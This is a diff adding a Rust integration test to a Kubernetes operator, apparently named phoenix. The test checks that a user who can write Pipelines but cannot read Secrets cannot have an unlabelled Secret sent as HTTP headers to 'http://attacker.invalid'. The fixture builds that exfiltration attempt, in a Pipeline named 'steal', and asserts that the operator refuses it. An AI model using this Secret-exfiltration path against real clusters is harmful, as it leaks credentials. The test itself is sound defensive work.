@@ -4,10 +4,11 @@
 use std::time::Duration;
 
 use k8s_openapi::api::apps::v1::DaemonSet;
-use k8s_openapi::api::core::v1::ConfigMap;
-use kube::api::PostParams;
-use phoenix::crd::Pipeline;
+use k8s_openapi::api::core::v1::{ConfigMap, Secret};
+use k8s_openapi::api::rbac::v1::{Role, RoleBinding};
+use kube::api::{Api, PostParams};
 use phoenix::crd::pipeline::PipelinePhase;
+use phoenix::crd::{Pipeline, conditions};
 use phoenix::desired::collector_config::CollectorConfig;
 
 use crate::harness::{Operator, TestNamespace, cluster, eventually};
@@ -86,5 +87,135 @@ async fn experiment_annotations_on_a_users_own_pipeline_are_ignored() {
         ds_labels.get("phoenix.io/experiment").map(String::as_str),
         Some("")
     );
+    ns.cleanup().await;
+}
+
+/// A Role in `ns` letting `user` manage Pipelines (and read their status), nothing else: no
+/// Secrets.
+async fn pipeline_author(ns: &TestNamespace, user: &str) {
+    let role: Role = serde_yaml::from_str(
+        "metadata: {name: pipeline-author}\nrules: [{apiGroups: [phoenix.io], resources: [pipelines, experiments], verbs: [get, list, watch, create, patch, delete]}]",
+    )
+    .expect("Role parses");
+    ns.api::<Role>()
+        .create(&PostParams::default(), &role)
+        .await
+        .expect("Role created");
+    let binding: RoleBinding = serde_yaml::from_str(&format!(
+        "metadata: {{name: pipeline-author}}\nroleRef: {{apiGroup: rbac.authorization.k8s.io, kind: Role, name: pipeline-author}}\nsubjects: [{{apiGroup: rbac.authorization.k8s.io, kind: User, name: {user}}}]"
+    ))
+    .expect("RoleBinding parses");
+    ns.api::<RoleBinding>()
+        .create(&PostParams::default(), &binding)
+        .await
+        .expect("RoleBinding created");
+}
+
+/// A Secret in `ns` with one key, labelled or not for exporter use.
+async fn secret(ns: &TestNamespace, name: &str, opted_in: bool) {
+    let labels = if opted_in {
+        "{phoenix.io/exporter-credentials: 'true'}"
+    } else {
+        "{}"
+    };
+    let s: Secret = serde_yaml::from_str(&format!(
+        "metadata: {{name: {name}, labels: {labels}}}\nstringData: {{password: hunter2}}"
+    ))
+    .expect("Secret parses");
+    ns.api::<Secret>()
+        .create(&PostParams::default(), &s)
+        .await
+        .expect("Secret created");
+}
+
+fn exporting_pipeline(name: &str, secret: &str) -> Pipeline {
+    serde_yaml::from_str(&format!(
+        "apiVersion: phoenix.io/v1alpha1\nkind: Pipeline\nmetadata: {{name: {name}}}\nspec:\n  template: baseline\n  exporters: [{{name: out, endpoint: 'http://attacker.invalid', headersSecretRef: {{name: {secret}}}}}]"
+    ))
+    .expect("test Pipeline parses")
+}
+
+/// The env var names of the collector container that come from `secret`.
+fn env_from_secret(ds: &DaemonSet, secret: &str) -> Vec<String> {
+    ds.spec
+        .template
+        .spec
+        .as_ref()
+        .map(|p| {
+            p.containers
+                .iter()
+                .flat_map(|c| c.env.iter().flatten())
+                .collect::<Vec<_>>()
+        })
+        .unwrap_or_default()
+        .into_iter()
+        .filter(|e| {
+            e.value_from
+                .as_ref()
+                .and_then(|v| v.secret_key_ref.as_ref())
+                .is_some_and(|r| r.name == secret)
+        })
+        .map(|e| e.name.clone())
+        .collect()
+}
+
+/// Path 2: a user who may write Pipelines but not read Secrets cannot have a Secret's values sent
+/// as HTTP headers to an endpoint of their choosing: only Secrets labelled
+/// `phoenix.io/exporter-credentials: "true"` are used, and the refusal says so.
+#[tokio::test]
+async fn only_secrets_opted_in_for_exporters_reach_a_collector() {
+    let ns = TestNamespace::new("secrets").await;
+    let _operator = Operator::start(&ns.name, &[]);
+    pipeline_author(&ns, "mallory").await;
+    secret(&ns, "db-password", false).await;
+    secret(&ns, "vendor-key", true).await;
+    let as_mallory = cluster().client_as("mallory").await;
+    let secrets: Api<Secret> = Api::namespaced(as_mallory.clone(), &ns.name);
+    assert!(
+        secrets.get("db-password").await.is_err(),
+        "mallory cannot read Secrets herself"
+    );
+    let pipelines: Api<Pipeline> = Api::namespaced(as_mallory, &ns.name);
+    for (name, secret) in [("steal", "db-password"), ("vendor", "vendor-key")] {
+        pipelines
+            .create(&PostParams::default(), &exporting_pipeline(name, secret))
+            .await
+            .expect("mallory may create Pipelines");
+    }
+
+    let refused = eventually(
+        "Pipeline steal refused",
+        Duration::from_secs(60),
+        || async {
+            let p = pipelines.get("steal").await.ok()?;
+            let s = p.status?;
+            (s.phase == Some(PipelinePhase::Invalid)).then_some(s)
+        },
+    )
+    .await;
+    let valid = conditions::find(&refused.conditions, "ConfigValid").expect("ConfigValid");
+    assert_eq!(valid.reason, "SecretNotOptedIn");
+    assert!(
+        valid.message.contains("phoenix.io/exporter-credentials"),
+        "the refusal names the label: {}",
+        valid.message
+    );
+    assert!(
+        ns.api::<DaemonSet>()
+            .get_opt("steal-collector")
+            .await
+            .expect("get DaemonSet")
+            .is_none(),
+        "no collector with the Secret was deployed"
+    );
+
+    // A Secret its owner opted in is used.
+    ready_config(&ns, "vendor").await;
+    let ds = ns
+        .api::<DaemonSet>()
+        .get("vendor-collector")
+        .await
+        .expect("DaemonSet");
+    assert_eq!(env_from_secret(&ds, "vendor-key").len(), 1);
     ns.cleanup().await;
 }
